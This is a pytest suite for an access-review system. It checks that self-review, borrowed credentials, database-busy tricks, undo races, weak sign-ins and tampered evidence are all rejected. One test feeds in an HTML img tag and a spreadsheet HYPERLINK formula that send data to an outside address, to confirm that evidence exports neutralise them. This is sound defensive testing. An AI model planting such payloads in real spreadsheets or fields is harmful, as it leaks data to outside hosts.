# ruff: noqa: F401, F811 -- fixtures are imported by name, and tests take them by the same name
"""Reviews that somebody tries to bend: about themselves, on what has changed, with the end brought nearer, or later."""

from __future__ import annotations

import csv
from collections.abc import Iterator
from dataclasses import replace
from io import StringIO

import pytest
from tests.access.at_harbor import AtHarbor, Colleague, farid, harbor, oscar
from tests.access.reviews.harbor_reviews import UnderReview, begun, set_groups

from limen import credentials
from limen.access.errors import NotYoursError
from limen.access.reviews import beginning, signature, store, verdicts
from limen.access.reviews.errors import EvidenceError, NotDoneError
from limen.access.reviews.judging import Judging, Told
from limen.access.reviews.model import Effect, Held, Outcome, ReviewRow, Verdict, Way
from limen.access.reviews.reach import Reach
from limen.clock import DAY, MINUTE
from limen.credentials import Cause, Ending
from limen.facts import App, Auth, Factor, Person
from limen.facts.access_rules import AccessRules, Approvers, ReviewRule
from limen.storage.errors import DatabaseBusyError


@pytest.fixture
async def greta(harbor: AtHarbor) -> Colleague:
    return await harbor.colleague("Greta", "staff", "sales")


@pytest.fixture
async def under(harbor: AtHarbor, farid: Colleague, greta: Colleague) -> UnderReview:
    return await begun(harbor)


def denied(harbor: AtHarbor) -> list[str]:
    return [one.reason for one in harbor.events("review.denied")]


async def test_nobody_decides_about_themselves(harbor: AtHarbor, under: UnderReview, farid: Colleague) -> None:
    for verdict in (Verdict.KEEP, Verdict.REMOVE, Verdict.ASK):
        assert await under.tells(farid, await under.row(farid.id), verdict) is Outcome.OWN
    assert (await under.row(farid.id)).verdict is Verdict.OPEN
    assert denied(harbor) == ["own"] * 3


async def test_who_helps_a_reviewer_back_in_decides_nothing_as_them(
    harbor: AtHarbor, under: UnderReview, farid: Colleague, greta: Colleague
) -> None:
    """Greta got hold of an access pass of Farid's, and would like to keep what she has."""
    link = await harbor.house.limen.identity.people.access_pass(farid.id, by=greta.id, why="He sat before me.")
    browser = harbor.house.browser()
    assert (await browser.enrol(link)).status_code == 200
    thief = Colleague(harbor, farid.id, browser)
    assert await under.tells(thief, await under.row(greta.id), Verdict.KEEP) is Outcome.BORROWED
    assert denied(harbor) == ["borrowed"]


async def test_a_busy_database_at_the_end_lets_nobody_keep_what_nobody_wanted(
    harbor: AtHarbor, farid: Colleague, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Whoever makes the database busy at the closing time gains some minutes, and not access for good."""
    maren = await harbor.colleague("Maren", "staff", "finance")
    under = await begun(harbor, "restricted-apps")
    harbor.house.clock.forward(14 * DAY)
    applied, is_busy = verdicts.by_default, True

    def by_default(on: Judging, row: ReviewRow) -> None:
        if is_busy and row.removes:
            raise DatabaseBusyError
        applied(on, row)

    monkeypatch.setattr(verdicts, "by_default", by_default)
    await under.reviews.follow_calendar()
    mine = [one for one in await under.rows() if one.person_id == maren.id and one.removes]
    assert mine
    assert not any(one.is_decided for one in mine)
    assert (await under.reviews.review(under.review.id)).closed_at == 0
    is_busy = False
    await under.reviews.follow_calendar()
    assert all(one.is_decided and one.effect is not Effect.BLOCKED for one in await under.rows())
    assert (await under.reviews.review(under.review.id)).closed_at > 0
    assert "finance" not in harbor.house.limen.known.people[maren.id].groups


async def test_a_review_that_is_too_large_stops_no_other(
    harbor: AtHarbor, farid: Colleague, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Somebody makes the next review too large by a rule, so that the default of this one would never come."""
    maren = await harbor.colleague("Maren", "staff", "finance")
    under = await begun(harbor, "restricted-apps")
    clock, tried = harbor.house.clock, []
    clock.forward(14 * DAY)
    wide = ReviewRule(name="wide", reviewers=Approvers(("sales",)), starts_at=clock.now(), every_ms=90 * DAY)
    rules = harbor.house.limen.known.rules_of(AccessRules)
    assert rules is not None
    harbor.house.limen.known.set_rules(AccessRules, replace(rules, reviews=(wide, *rules.reviews)))
    rows_of = beginning.rows_of

    def seen(known: beginning.Known, rule: ReviewRule, review_id: str) -> Iterator[ReviewRow]:
        tried.append(rule.name)
        return rows_of(known, rule, review_id)

    monkeypatch.setattr(beginning, "rows_of", seen)
    monkeypatch.setattr(beginning, "MOST_ROWS", 1)
    for _ in range(3):
        await under.reviews.follow_calendar()
        clock.forward(MINUTE)
    assert (await under.reviews.review(under.review.id)).closed_at > 0
    assert "finance" not in harbor.house.limen.known.people[maren.id].groups
    assert tried.count("wide") == 1
    said = [one for one in harbor.events("review.failed") if one.details["name"] == "wide"]
    assert [one.reason for one in said] == ["too-many-rows"]
    clock.forward(DAY)
    await under.reviews.follow_calendar()
    assert tried.count("wide") == 2


@pytest.mark.parametrize("whose", ["asker", "approver", "signed-out", "rule-gone"])
async def test_undoing_gives_nothing_back_that_was_to_end_meanwhile(
    harbor: AtHarbor, farid: Colleague, greta: Colleague, oscar: Colleague, whose: str
) -> None:
    """Farid removes a grant just before Oscar's account, or that of who approved it, is reported stolen."""
    assert await greta.approves(await oscar.asks()) is not None
    under = await begun(harbor)
    assert await under.tells(farid, await under.row(oscar.id), Verdict.REMOVE) is Outcome.DONE
    core = harbor.house.limen.core
    if whose == "rule-gone":
        rules = core.known.rules_of(AccessRules)
        assert rules is not None
        core.known.set_rules(AccessRules, replace(rules, rules=()))
    else:
        cause = Cause.SIGNED_OUT if whose == "signed-out" else Cause.STOLEN
        holder = greta.id if whose == "approver" else oscar.id
        ending = Ending(cause=cause, holder=holder, now=harbor.house.clock.now(), by="", reason="a-test")
        await core.write(lambda t: credentials.end(t, ending))
    assert await under.undoes(farid, await under.row(oscar.id)) is Outcome.STALE
    assert [one for one in harbor.access.held.live("crm") if one.person_id == oscar.id] == []


async def test_undoing_puts_nobody_into_a_group_that_gives_more_by_now(
    harbor: AtHarbor, under: UnderReview, farid: Colleague, greta: Colleague, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert await under.tells(farid, await under.row(greta.id), Verdict.REMOVE) is Outcome.DONE
    ways = Reach.ways

    def more(self: Reach, person: Person, app: App) -> tuple[Held, ...]:
        wider = (Held(Way.GROUP, "sales", ("view",)),) if app.id == "payroll" and "sales" in person.groups else ()
        return (*ways(self, person, app), *wider)

    monkeypatch.setattr(Reach, "ways", more)
    assert await under.undoes(farid, await under.row(greta.id)) is Outcome.STALE
    assert "sales" not in harbor.house.limen.known.people[greta.id].groups


async def test_nobody_decides_about_their_second_account(harbor: AtHarbor, farid: Colleague, greta: Colleague) -> None:
    people = harbor.house.limen.identity.people
    mailbox = harbor.house.limen.known.people[farid.id].email.replace("@", "+second@")
    await people.correct(greta.id, "Greta", mailbox, by="")
    under = await begun(harbor)
    row = await under.row(greta.id)
    assert row.reviewers == ()
    assert await under.tells(farid, row, Verdict.KEEP) is Outcome.OWN


async def test_two_who_review_each_other_don_t_with_four_eyes(harbor: AtHarbor) -> None:
    maren, rohan = [await harbor.colleague(name, "staff", "finance") for name in ("Maren", "Rohan")]
    under = await begun(harbor, "restricted-apps")
    of_payroll = {one.person_id: one for one in await under.rows() if one.app == "payroll"}
    of_rohan, of_maren = of_payroll[rohan.id], of_payroll[maren.id]
    assert await under.tells(maren, of_rohan, Verdict.KEEP) is Outcome.DONE
    assert await under.tells(rohan, of_maren, Verdict.KEEP) is Outcome.OWN


async def test_somebody_who_came_among_the_reviewers_since_decides_nothing(
    harbor: AtHarbor, under: UnderReview, greta: Colleague, oscar: Colleague
) -> None:
    await set_groups(harbor, oscar, "staff", "sales")
    assert await under.tells(oscar, await under.row(greta.id), Verdict.REMOVE) is Outcome.NOT_YOURS
    assert greta.opens()
    assert denied(harbor) == ["not-yours"]


async def test_somebody_who_left_the_reviewers_since_decides_nothing(
    harbor: AtHarbor, under: UnderReview, farid: Colleague, greta: Colleague
) -> None:
    await set_groups(harbor, farid, "staff")
    assert await under.tells(farid, await under.row(greta.id), Verdict.REMOVE) is Outcome.NOT_YOURS
    assert greta.opens()


async def test_a_form_that_is_sent_again_decides_nothing(
    under: UnderReview, farid: Colleague, greta: Colleague
) -> None:
    row = await under.row(greta.id)
    assert await under.tells(farid, row, Verdict.REMOVE) is Outcome.DONE
    assert await under.tells(farid, row, Verdict.REMOVE) is Outcome.DECIDED
    assert await under.undoes(farid, await under.row(greta.id)) is Outcome.DONE
    assert await under.tells(farid, row, Verdict.REMOVE) is Outcome.STALE
    assert await under.undoes(farid, row) is Outcome.NOT_YOURS
    assert greta.opens()


async def test_a_grant_that_was_prolonged_by_more_actions_is_looked_at_anew(
    harbor: AtHarbor, farid: Colleague, greta: Colleague, oscar: Colleague
) -> None:
    grant = await farid.approves(await oscar.asks("crm", "view", "edit"))
    assert grant is not None
    under = await begun(harbor)
    row = await under.row(oscar.id)
    narrow = Told(row.id, row.version, Verdict.NARROW, narrow_to=("view",))
    other = await begun(harbor)
    assert (await under.decides(farid, narrow))[Outcome.DONE] == 1
    seen = await other.row(oscar.id)
    assert seen.actions == ("view", "edit")
    assert await other.tells(greta, seen, Verdict.KEEP) is Outcome.STALE
    again = await other.row(oscar.id)
    assert (again.actions, again.version, again.verdict) == (("view",), 2, Verdict.OPEN)
    assert await other.tells(greta, again, Verdict.KEEP) is Outcome.DONE


async def test_a_leaver_is_nothing_to_decide_about_and_comes_back_by_no_undo(
    harbor: AtHarbor, under: UnderReview, farid: Colleague, greta: Colleague
) -> None:
    people = harbor.house.limen.identity.people
    assert await under.tells(farid, await under.row(greta.id), Verdict.REMOVE) is Outcome.DONE
    await people.deactivate(greta.id, by="")
    assert await under.undoes(farid, await under.row(greta.id)) is Outcome.STALE
    assert harbor.house.limen.known.people[greta.id].groups == {"staff"}
    other = await begun(harbor)
    assert [one for one in await other.rows() if one.person_id == greta.id] == []
    await people.deactivate(farid.id, by="")
    harbor.house.clock.forward(30 * DAY)
    await under.reviews.follow_calendar()
    assert {one.effect for one in await under.rows() if one.person_id == farid.id} == {Effect.GONE}


async def test_undoing_gives_nothing_back_that_an_administrator_took_since(
    harbor: AtHarbor, under: UnderReview, farid: Colleague, greta: Colleague
) -> None:
    assert await under.tells(farid, await under.row(greta.id), Verdict.REMOVE) is Outcome.DONE
    await set_groups(harbor, greta)
    assert await under.undoes(farid, await under.row(greta.id)) is Outcome.STALE
    assert "sales" not in harbor.house.limen.known.people[greta.id].groups


async def test_only_who_decided_undoes_it(
    harbor: AtHarbor, farid: Colleague, greta: Colleague, oscar: Colleague
) -> None:
    await farid.approves(await oscar.asks())
    under = await begun(harbor)
    assert await under.tells(farid, await under.row(oscar.id), Verdict.REMOVE) is Outcome.DONE
    assert await under.undoes(greta, await under.row(oscar.id)) is Outcome.NOT_YOURS
    assert not oscar.opens()


async def test_nobody_closes_it_early_to_have_its_default_or_decides_when_it_is_over(
    harbor: AtHarbor, under: UnderReview, farid: Colleague, greta: Colleague
) -> None:
    ada = await harbor.administrator()
    with pytest.raises(NotDoneError):
        await under.reviews.close(ada.session, under.review.id)
    harbor.house.clock.forward(21 * DAY)
    assert await under.tells(farid, await under.row(greta.id), Verdict.REMOVE) is Outcome.CLOSED
    assert "sales" in harbor.house.limen.known.people[greta.id].groups


async def test_a_decision_that_is_taken_back_while_it_is_closed_keeps_it_open(
    harbor: AtHarbor, under: UnderReview, farid: Colleague, greta: Colleague, monkeypatch: pytest.MonkeyPatch
) -> None:
    """All was decided when it was looked at, and a row is open as it closes: that row's default came then, too early,
    and on the server it never came.
    """
    ada, house = await harbor.administrator(), harbor.house
    for row in await under.rows():
        await house.limen.core.write(
            lambda t, row=row: store.keep_row(
                t.connection, replace(row, verdict=Verdict.KEEP, version=row.version + 1), row.version
            )
        )
    looked = await under.rows()
    assert all(one.is_decided for one in looked)
    back = replace(await under.row(greta.id), verdict=Verdict.OPEN)
    await house.limen.core.write(lambda t: store.keep_row(t.connection, back, back.version))
    monkeypatch.setattr(store, "rows", lambda *_all: looked)
    with pytest.raises(NotDoneError):
        await under.reviews.close(ada.session, under.review.id)
    monkeypatch.undo()
    assert (await under.reviews.review(under.review.id)).closed_at == 0
    assert (await under.row(greta.id)).verdict is Verdict.OPEN
    assert "sales" in house.limen.known.people[greta.id].groups


async def test_a_program_and_a_weak_sign_in_decide_nothing(
    harbor: AtHarbor, under: UnderReview, farid: Colleague, greta: Colleague
) -> None:
    row, now = await under.row(greta.id), harbor.house.clock.now()
    told = [Told(row.id, row.version, Verdict.REMOVE)]
    for auth in (Auth(2, frozenset({Factor.PASSWORD}), now), Auth(2, frozenset({Factor.PASSKEY}), now, by_token=True)):
        session = replace(farid.session, auth=auth)
        with pytest.raises(NotYoursError):
            await under.reviews.decide(session, under.review.id, told)
        with pytest.raises(NotYoursError):
            await under.reviews.close(session, under.review.id)
    assert greta.opens()


@pytest.mark.parametrize("form", ["csv", "pdf"])
async def test_evidence_in_which_any_byte_was_changed_is_none(
    harbor: AtHarbor, under: UnderReview, farid: Colleague, greta: Colleague, form: str
) -> None:
    await under.tells(farid, await under.row(greta.id), Verdict.KEEP)
    made = await under.reviews.evidence(under.review.id, form, "")
    keys = signature.public_keys(harbor.house.limen.core.keyring)
    assert made.content.startswith(signature.verified(made.content, keys))
    step = max(1, len(made.content) // 400)
    for place in (*range(0, len(made.content), step), *range(len(made.content) - 240, len(made.content))):
        changed = bytearray(made.content)
        changed[place] ^= 1
        with pytest.raises(EvidenceError):
            signature.verified(bytes(changed), keys)
    for cut in (made.content[:-1], made.content + b"\n", made.content[1:], b""):
        with pytest.raises(EvidenceError):
            signature.verified(cut, keys)
    with pytest.raises(EvidenceError):
        signature.verified(made.content, [bytes(32)])


async def test_no_cell_of_the_evidence_is_a_formula_or_markup(
    harbor: AtHarbor, farid: Colleague, greta: Colleague
) -> None:
    await harbor.house.limen.identity.people.rename(greta.id, "<img src='http://203.0.113.9/'/>", by="")
    under = await begun(harbor)
    note = '=HYPERLINK("http://203.0.113.9/"&A1)'
    assert await under.tells(farid, await under.row(greta.id), Verdict.KEEP, note) is Outcome.DONE
    made = await under.reviews.evidence(under.review.id, "csv", "")
    cells = [cell for row in csv.reader(StringIO(made.content.decode())) for cell in row]
    assert f"'{note}" in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
    pdf = await under.reviews.evidence(under.review.id, "pdf", "")
    assert pdf.content.startswith(b"%PDF")
    assert b"/URI" not in pdf.content
    assert "HYPERLINK" not in str(harbor.events("review.decided"))


async def test_more_rows_than_one_press_may_decide_are_left_alone(
    under: UnderReview, farid: Colleague, greta: Colleague
) -> None:
    several = [Told(f"rr_{number}", 1, Verdict.REMOVE) for number in range(500)]
    assert (await under.decides(farid, *several)).total() == 200


async def test_the_owner_of_one_app_takes_nobody_out_of_a_group_that_gives_more(
    harbor: AtHarbor, farid: Colleague, oscar: Colleague
) -> None:
    ada = await harbor.administrator()
    rule = ReviewRule(name="all", reviewers=Approvers(("sales",)), apps=("wiki", "crm"))
    harbor.house.limen.known.set_rules(AccessRules, AccessRules((), (rule,)))
    under = await begun(harbor, "all")
    wide = [one for one in await under.rows() if one.by in {"staff", "administrators"} and one.person_id != farid.id]
    assert {one.person_id for one in wide} >= {oscar.id}
    for row in wide:
        assert await under.tells(farid, row, Verdict.REMOVE) is Outcome.DONE
    people = harbor.house.limen.known.people
    assert "staff" in people[oscar.id].groups
    assert "administrators" in people[ada.id].groups
    chosen = {one.id for one in wide}
    assert {one.effect for one in await under.rows() if one.id in chosen} == {Effect.PROPOSED}


async def test_what_was_gone_with_a_group_is_open_again_when_that_is_undone(harbor: AtHarbor, farid: Colleague) -> None:
    greta = await harbor.colleague("Greta", "staff", "sales")
    rule = ReviewRule(name="all", reviewers=Approvers(("sales",)))
    harbor.house.limen.known.set_rules(AccessRules, AccessRules((), (rule,)))
    under = await begun(harbor, "all")
    first, *others = [one for one in await under.rows() if (one.person_id, one.by) == (greta.id, "sales")]
    assert await under.tells(farid, first, Verdict.REMOVE) is Outcome.DONE
    assert [await under.tells(farid, one, Verdict.KEEP) for one in others] == [Outcome.GONE] * len(others)
    (removed,) = [one for one in await under.rows() if one.id == first.id]
    assert await under.undoes(farid, removed) is Outcome.DONE
    mine = [one for one in await under.rows() if (one.person_id, one.by) == (greta.id, "sales")]
    assert {one.effect for one in mine} == {Effect.NONE}
